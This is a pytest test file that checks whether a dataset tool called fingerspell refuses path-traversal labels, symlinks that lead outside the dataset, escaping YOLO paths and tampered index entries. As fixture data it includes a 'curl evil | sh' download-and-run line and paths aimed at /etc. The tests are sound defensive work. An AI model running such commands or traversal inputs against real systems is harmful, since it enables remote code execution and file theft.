"""Issue 15, cases 1, 3 and 6: nothing a dataset says can make fingerspell read or write outside
its folders. Labels, file names, YOLO folders and symbolic links are the inputs of the report;
each is refused at import with one `error:` line, and export checks again (defence in depth).
"""
from __future__ import annotations

import hashlib
import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from fingerspell.data import Dataset, import_dataset
from fingerspell.data.export import export_dataset
from fingerspell.errors import UnsafePathError
from tests.data.test_bad_input import letters_csv, letters_yolo
from tests.data.helpers import datasets_snapshot, one_error, one_image_coco


def _tree(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


# ---- case 1: a label or a file name that is a path ---------------------------------------------
def test_corners_csv_absolute_label_and_dotfile_are_refused(tmp_path, datasets_root, capsys):
    victim = tmp_path / "home-of-someone"
    victim.mkdir()
    (victim / ".bashrc").write_text("echo safe\n")
    before_victim = _tree(victim)
    root = letters_csv(tmp_path, datasets_root, count=3)
    csv_file = root / "_annotations.csv"
    lines = csv_file.read_text().splitlines()
    image = lines[1].split(",")[0]
    (root / ".bashrc").write_text("curl evil | sh\n")

    # The report's input: the file is `.bashrc` and the label an absolute (lower-case) folder.
    csv_file.write_text("\n".join(lines + [f".bashrc,1,1,5,5,{str(victim).lower()}"]) + "\n")
    message = one_error(capsys, ["data", "import", str(root), "--name", "evil"])
    assert "_annotations.csv:5: class name" in message and "contains a path separator" in message

    # Each half alone is refused too: a dotfile is not an image, whatever its label ...
    csv_file.write_text("\n".join(lines + [".bashrc,1,1,5,5,A"]) + "\n")
    message = one_error(capsys, ["data", "import", str(root), "--name", "evil"])
    assert "_annotations.csv:5: '.bashrc' is not an image file" in message

    # ... and a real image cannot carry a label that is a path.
    csv_file.write_text("\n".join(lines + [f"{image},1,1,5,5,{victim}"]) + "\n")
    message = one_error(capsys, ["data", "import", str(root), "--name", "evil"])
    assert "_annotations.csv:5: class name" in message and "path separator" in message
    assert datasets_snapshot() == {} and _tree(victim) == before_victim


def test_yolo_names_with_dot_dot_are_refused(tmp_path, datasets_root, capsys):
    root = letters_yolo(tmp_path, datasets_root, count=3)
    config = (root / "data.yaml").read_text().replace("'A'", "'../../..'")
    (root / "data.yaml").write_text(config)
    message = one_error(capsys, ["data", "import", str(root), "--format", "yolo"])
    assert "data.yaml: names[0]: class name '../../..' contains a path separator" in message
    assert datasets_snapshot() == {}


def test_coco_category_with_dot_dot_is_refused(tmp_path, datasets_root, capsys):
    root, document = one_image_coco(tmp_path, datasets_root)
    document["categories"][0]["name"] = "../escaped"
    (root / "_annotations.coco.json").write_text(json.dumps(document))
    message = one_error(capsys, ["data", "import", str(root)])
    assert "_annotations.coco.json: category 0: class name '../escaped' contains a path separator" in message

    # Any existing file named by file_name is not a sample: only images are.
    document["categories"][0]["name"] = "A"
    document["images"][0]["file_name"] = "notes.txt"
    (root / "notes.txt").write_text("secret")
    (root / "_annotations.coco.json").write_text(json.dumps(document))
    message = one_error(capsys, ["data", "import", str(root)])
    assert "image 0: 'notes.txt' is not an image file" in message
    assert datasets_snapshot() == {}


def test_export_refuses_a_tampered_index(tmp_path, datasets_root):
    """Defence in depth: an index edited by hand (or by an older version) cannot steer export."""
    root = letters_csv(tmp_path, datasets_root, count=3)
    ds = import_dataset(root, name="letters")
    path = ds.path
    ds.close()
    outside = tmp_path / "outside"
    db = sqlite3.connect(path)
    with db:
        db.execute("UPDATE samples SET label = ? WHERE id = 1", (f"../../{outside.name}",))
    db.close()
    with Dataset.load("letters") as ds:
        with pytest.raises(UnsafePathError, match="class name '../../outside' contains a path separator"):
            export_dataset(ds, "folders", tmp_path / "out")
    assert not outside.exists() and not (tmp_path / "out").exists()
    assert not list(tmp_path.glob(".out.export-*"))

    db = sqlite3.connect(path)
    with db:
        db.execute("UPDATE samples SET label = original_label")
        db.execute("UPDATE samples SET source = '../../../../../../etc/hostname' WHERE id = 1")
    db.close()
    with Dataset.load("letters") as ds:
        with pytest.raises(UnsafePathError, match="leads outside the folder"):
            export_dataset(ds, "folders", tmp_path / "out")
    assert not (tmp_path / "out").exists()


# ---- case 3: a symbolic link inside a dataset folder -------------------------------------------
def _two_class_folders(tmp_path: Path, datasets_root: Path) -> Path:
    root = tmp_path / "classes"
    for letter in ("a", "b"):
        (root / letter).mkdir(parents=True)
        source = datasets_root / "massey" / "asl_dataset" / letter
        for image in sorted(source.iterdir())[:2]:
            shutil.copy(image, root / letter / image.name)
    return root


def test_symlink_out_of_the_dataset_is_refused_at_import_and_export(tmp_path, datasets_root, capsys):
    root = _two_class_folders(tmp_path, datasets_root)
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    (root / "a" / "pw.jpg").symlink_to(secret)  # the report used /etc/passwd
    message = one_error(capsys, ["data", "import", str(root), "--name", "leak"])
    assert "pw.jpg (a symbolic link): leads outside the folder" in message
    assert datasets_snapshot() == {}

    # Linked afterwards (the index was made while the file was real): export refuses too.
    (root / "a" / "pw.jpg").unlink()
    import_dataset(root, name="leak").close()
    victim = sorted((root / "b").iterdir())[0]
    victim.unlink()
    victim.symlink_to(secret)
    message = one_error(capsys, ["data", "export", "leak", str(tmp_path / "out"), "--format", "folders"])
    assert "leads outside the folder" in message
    assert not (tmp_path / "out").exists()

    # A link that stays inside the dataset folder is fine.
    victim.unlink()
    victim.symlink_to(sorted((root / "a").iterdir())[0])
    with Dataset.load("leak") as ds:
        result = export_dataset(ds, "folders", tmp_path / "out")
    assert result.images == 4


# ---- case 6: silent or inconsistent ------------------------------------------------------------
def test_empty_class_folder_and_dangling_symlink_are_errors(tmp_path, datasets_root, capsys):
    root = _two_class_folders(tmp_path, datasets_root)
    (root / "c").mkdir()
    message = one_error(capsys, ["data", "import", str(root)])
    assert "classes/c: class folder 'c' holds no images" in message
    (root / "c").rmdir()
    (root / "b" / "gone.jpg").symlink_to(tmp_path / "nowhere.jpg")
    message = one_error(capsys, ["data", "import", str(root)])
    assert "gone.jpg: broken symbolic link" in message
    assert datasets_snapshot() == {}


@pytest.mark.parametrize("name", ["", "a*b", "two\nlines", "con:aux?<>|", "x" * 300, "../up", "-dash", "con"])
def test_bad_dataset_names_are_refused_before_reading(name, tmp_path, datasets_root, capsys):
    root = _two_class_folders(tmp_path, datasets_root)
    message = one_error(capsys, ["data", "import", str(root), f"--name={name}"])
    assert "invalid dataset name" in message
    assert datasets_snapshot() == {}


def test_yolo_path_outside_the_dataset_folder_is_refused(tmp_path, datasets_root, capsys):
    root = letters_yolo(tmp_path, datasets_root, count=3)
    original = (root / "data.yaml").read_text()
    for bad in ("path: /", f"path: {tmp_path}", "path: ../.."):
        (root / "data.yaml").write_text(f"{bad}\n{original}")
        message = one_error(capsys, ["data", "import", str(root), "--format", "yolo"])
        assert "leads outside the dataset folder" in message, bad
    for bad in ("train: /etc", "train: ../../../../../../../etc"):
        (root / "data.yaml").write_text(original.replace("train: train/images", bad))
        message = one_error(capsys, ["data", "import", str(root), "--format", "yolo"])
        assert "leads outside the dataset folder" in message or "must be relative" in message, bad
    assert datasets_snapshot() == {}
    # Roboflow's own `../train/images` still reads.
    (root / "data.yaml").write_text(original.replace("train: train/images", "train: ../train/images"))
    with import_dataset(root, format="yolo") as ds:
        assert ds.count() == 3
